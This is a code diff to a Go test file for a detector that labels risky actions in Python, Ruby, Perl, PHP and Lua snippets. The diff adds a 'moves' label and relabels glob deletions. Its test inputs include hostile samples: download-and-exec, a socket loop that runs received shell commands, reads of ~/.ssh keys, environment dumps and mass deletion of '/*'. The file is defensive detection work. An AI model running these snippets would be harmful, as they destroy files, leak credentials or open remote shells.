@@ -9,7 +9,7 @@ import (
 
 // shown writes what was found, one act a word: "removes /a" and so on.
 func shown(t *Text) string {
-	names := [...]string{"", "argv", "shell", "removes", "tree", "writes", "reads", "queries", "download", "evaluates", "tells"}
+	names := [...]string{"", "argv", "shell", "removes", "tree", "moves", "writes", "reads", "queries", "download", "evaluates", "tells"}
 	all := []string{}
 	for _, a := range t.Acts {
 		words := []string{}
@@ -58,10 +58,15 @@ func TestRead(t *testing.T) {
 		{Python, `os.remove(f"/tmp/{x}")`, "removes /tmp/?"},
 		{Python, `subprocess.run(f"git push {x.y}", shell=True)`, "shell git push ${x}"},
 		{Python, `subprocess.run("git push origin".split())`, "argv git | push | origin"},
-		{Python, `shutil.rmtree("/a"); shutil.copy("a", "b"); os.rename("c", "d")`, "tree /a; reads a; writes b; removes c; writes d"},
+		{Python, `shutil.rmtree("/a"); shutil.copy("a", "b"); os.rename("c", "d")`, "tree /a; reads a; writes b; moves c; writes d"},
 		{Python, `for f in ["a", "b"]:` + "\n    os.remove(f)", "removes a | b"},
-		{Python, `for f in glob.glob("/x/*"):` + "\n    os.remove(f)", "removes /x/*(glob)"},
+		{Python, `for f in glob.glob("/x/*"):` + "\n    os.remove(f)", "tree /x/*(glob)"},
 		{Python, `for r, d, f in os.walk("/"):` + "\n    os.remove(os.path.join(r, f))", "tree /*(glob)"},
+		{Python, `for f in x:` + "\n    os.remove(f)", "tree ?(glob)"},
+		{Python, `for f in x: os.remove(f"a/{f.strip()}"); shutil.rmtree("b/%s" % f)`, "tree a/?(glob); tree b/?(glob)"},
+		{Python, `for p in Path("a").glob("*"): p.parent.rmdir(); f(p).unlink(); os.rename(p, "b")`, "tree ?(glob); tree ?(glob); moves a/*(glob); writes b"},
+		{Python, `list(map(os.remove, x)); list(map(os.remove, glob.glob("*")))`, "tree ?(glob); tree *(glob)"},
+		{Python, `for r in rows: r.delete(); names.remove(r); os.remove(y)`, ""},
 		{Python, `cur.execute("DELETE FROM t")`, "queries DELETE FROM t"},
 		{Python, `exec(urllib.request.urlopen("http://x").read())`, "download"},
 		{Python, "s.connect(a)\nwhile True:\n  c = s.recv(1024).decode()\n  subprocess.run(c, shell=True)", "download"},
@@ -72,7 +77,7 @@ func TestRead(t *testing.T) {
 		{Python, `subprocess.run(["a"], env={**os.environ, "X": "1"})`, "argv a"},
 		{Python, `os.environ["HOME"]; os.environ.get("X")`, ""},
 		{Python, `print(os.environ)`, "tells"},
-		{Python, `Path("a").write_text("x"); Path("a").rename("b"); Path("c").unlink()`, "writes a; removes a; writes b; removes c"},
+		{Python, `Path("a").write_text("x"); Path("a").rename("b"); Path("c").unlink()`, "writes a; moves a; writes b; removes c"},
 		{Python, `os.open("a", os.O_WRONLY | os.O_CREAT)`, "writes a"},
 		{Python, `os.chmod("/etc/x", 0o644); os.makedirs("/a/b")`, "writes /etc/x; writes /a/b"},
 		{Python, `__import__("os").system("a")`, "shell a"},
@@ -104,16 +109,16 @@ func TestRead(t *testing.T) {
 		{Ruby, `puts "#{` + "`a`" + `}"`, "shell a"},
 		{Ruby, `File.read(File.join(Dir.home, ".ssh", "id"))`, "reads ~/.ssh/id"},
 		{Ruby, `puts ENV.to_h`, "tells"},
-		{Ruby, `Dir.glob("*.o").each { |f| File.delete(f) }`, "removes *.o(glob)"},
+		{Ruby, `Dir.glob("*.o").each { |f| File.delete(f) }`, "tree *.o(glob)"},
 		{Perl, `system(q(git reset)); exec q{a}; qx(b); qx!c!; system qq|d|;`, "shell git reset; shell a; shell b; shell c; shell d"},
 		{Perl, `open(F,"|-","a b"); open(F,"c|"); open F,q(-|),q(d); open(my $f, ">", "e"); open(G, ">>f")`, "shell a b; shell c; shell d; writes e; writes f"},
-		{Perl, `unlink glob "/*"`, "removes /*(glob)"},
+		{Perl, `unlink glob "/*"`, "tree /*(glob)"},
 		{Perl, `unlink "$ENV{HOME}/.bashrc"; rmtree("/a")`, "removes ~/.bashrc; tree /a"},
 		{Perl, `$x =~ s/system("a")/b/; tr/a/b/; print "system('c')"`, ""},
 		{Perl, "s/x/`rm x`/e; $y =~ s/x/system('rm x')/ge; s{x}{my $z = 1; system(q(b))}e; s/a/`c`/g", "shell rm x; shell rm x; shell b"},
 		{Perl, `system qw(git push)`, "argv git | push"},
 		{PHP, `popen("a","r"); proc_open("b",[],$p); shell_exec('c'); ` + "`d`;", "shell a; shell b; shell c; shell d"},
-		{PHP, `array_map("unlink",glob("/*"));`, "removes /*(glob)"},
+		{PHP, `array_map("unlink",glob("/*"));`, "tree /*(glob)"},
 		{PHP, `file_put_contents($_SERVER['HOME'] . "/.bashrc", "x");`, "writes ~/.bashrc"},
 		{PHP, "<html><?php system('a'); ?>", "shell a"},
 		{Lua, `os.execute[[a b]]; io.popen("c"); -- os.execute("d")` + "\nos.remove('e')", "shell a b; shell c; removes e"},
